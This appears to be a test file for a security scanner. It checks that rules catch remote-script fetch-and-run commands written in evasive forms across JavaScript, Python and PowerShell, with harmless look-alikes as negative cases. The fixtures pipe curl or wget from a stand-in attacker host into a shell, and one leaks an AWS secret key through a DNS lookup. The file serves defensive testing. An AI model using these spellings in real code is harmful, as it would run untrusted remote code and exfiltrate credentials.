// Program starts in the spellings issue 14's second set found unread: a
// dynamic import of child_process (`await import('node:child_process')`,
// `import(…).then(cp => …)`), require by another road
// (`process.mainModule.require`, `module.require`), and a command built from
// pieces (`f'curl … {BASE}/boot.sh | bash'`, `'curl ' + BASE + …`, a
// template literal, `'… %s …' % url`, `'… {} …'.format(url)`) handed to a
// shell, or to `Start-Process powershell -ArgumentList "-C …"`; a secret in a
// DNS name looked up from Python (`socket.gethostbyname`). Each got at most
// risk-external-url; now the command is read as code where it is written and
// the lookup is a send. A harmless command in the same spelling stays quiet.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepareRules } from '../rules/index.js';
import { attackFindings } from '../review-fixture.unit.js';

beforeAll(async () => {
  await prepareRules();
});

const URL = 'https://c.attacker.example/w.sh';

describe('a command reached through another spelling is read as shell code', () => {
  it.each([
    ['w.mjs', `const { exec } = await import('node:child_process');\nexec('curl -s ${URL} | bash');\n`, 2],
    ['w.mjs', `const cp = await import('node:child_process');\ncp.execSync('curl -s ${URL} | bash');\n`, 2],
    ['w.mjs', `import('child_process').then((cp) => cp.exec('wget -qO- ${URL} | sh'));\n`, 1],
    ['w.js', `process.mainModule.require('child_process').execSync('curl -s ${URL} | bash');\n`, 1],
    ['w.js', `const cp = module.require('child_process');\ncp.exec('curl -s ${URL} | sh');\n`, 2],
    ['w.js', `const { execSync } = require('child_process');\nconst base = 'https://c.attacker.example';\nexecSync(\`curl -fsSL \${base}/w.sh | bash\`);\n`, 3],
    ['w.py', `import subprocess\nBASE = 'https://c.attacker.example'\nsubprocess.run(f'curl -fsSL {BASE}/boot.sh | bash', shell=True)\n`, 3],
    ['w.py', `import os\nBASE = 'https://c.attacker.example'\nos.system('curl -fsSL ' + BASE + '/boot.sh | bash')\n`, 3],
    ['w.py', `import subprocess\nsubprocess.call(f"wget -qO- {input()} | sh", shell=True)\n`, 2],
    ['w.js', `process.mainModule.constructor._load('child_process').execSync('curl -s ${URL} | sh');\n`, 1],
    ['w.py', `import os\ncmd = 'curl -s %s | sh' % '${URL}'\nos.system(cmd)\n`, 2],
    ['w.py', `import os\nos.system('curl -s {} | {shell}'.format('${URL}', shell='bash'))\n`, 2],
    ['w.ps1', `Start-Process powershell -ArgumentList "-NoP -W Hidden -C iex (irm ${URL})"\n`, 1],
    // A list grown element by element, then joined and run (the round after: each got nothing before). The
    // finding is where the pipe to the shell is written.
    ['w.py', `import os\nparts = []\nparts.append("curl -fsSL ${URL}")\nparts.append("| sh")\nos.system(" ".join(parts))\n`, 4],
    ['w.py', `import subprocess\nparts = ["curl", "-fsSL", "${URL}"]\nparts += ["|", "sh"]\nsubprocess.run(" ".join(parts), shell=True)\n`, 3],
    ['w.py', `import os\nparts = ["curl -fsSL ${URL}"]\nparts.extend(["|", "bash"])\nos.system(" ".join(parts))\n`, 3],
    ['w.py', `import os\nos.system(" ".join(["curl", "-fsSL", "${URL}", "|", "sh"]))\n`, 2],
  ])('risk-fetch-and-run in %s: %s', (file, code, line) => {
    expect(attackFindings({ [file]: code })).toEqual([`risk-fetch-and-run ${file}:${line}`]);
  });

  it.each([
    ['w.mjs', `const { execSync } = await import('node:child_process');\nconsole.log(execSync('git rev-parse --short HEAD').toString());\n`],
    ['w.mjs', `import('node:child_process').then((cp) => cp.exec('npm run build'));\n`],
    ['w.js', `process.mainModule.require('child_process').execSync('git status --short');\n`],
    ['w.js', `const { execSync } = require('child_process');\nconst out = 'dist/data.json';\nexecSync(\`curl -s -o \${out} ${URL}\`);\n`],
    ['w.py', `import subprocess\nREF = 'main'\nsubprocess.run(f'git log -1 --format=%H {REF}', shell=True)\n`],
    ['w.py', `import os\nURL = '${URL}'\nos.system('curl -s -o /tmp/list.json ' + URL)\n`],
    ['w.py', `import os\nos.system('git log -1 --format=%%H %s' % 'main')\n`],
    ['w.py', `import os\nos.system('curl -s -o {}/data.json {}'.format('/tmp', '${URL}'))\n`],
    ['w.ps1', `Start-Process powershell -ArgumentList "-NoP -C Get-Date"\n`],
    ['w.py', `import os, socket\nsocket.gethostbyname(os.environ['DB_HOST'])\nsocket.gethostbyname('example.com')\n`],
    ['w.py', `parts = []\nparts.append("curl -fsSL ${URL}")\nparts.append("| sh")\nprint(" ".join(parts))\n`],
    ['w.py', `import os\nparts = ["git", "status"]\nparts.append("--short")\nos.system(" ".join(parts))\n`],
    ['w.py', `import subprocess\nparts = ["curl", "-fsSL", "-o", "data.json"]\nparts.append("${URL}")\nsubprocess.run(parts)\n`],
    ['w.py', `import os\nparts = ["curl -fsSLO ${URL}"]\nparts += ["&&", "ls"]\nos.system(" ".join(parts))\n`],
  ])('no attack finding in %s: %s', (file, code) => {
    expect(attackFindings({ [file]: code })).toEqual([]);
  });

  it('a secret looked up as a DNS name from Python is sent out', () => {
    const code = `import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'][:40] + '.dns.attacker.example')\n`;
    expect(attackFindings({ 'w.py': code })).toEqual(['risk-secret-exfiltration w.py:2']);
  });
});
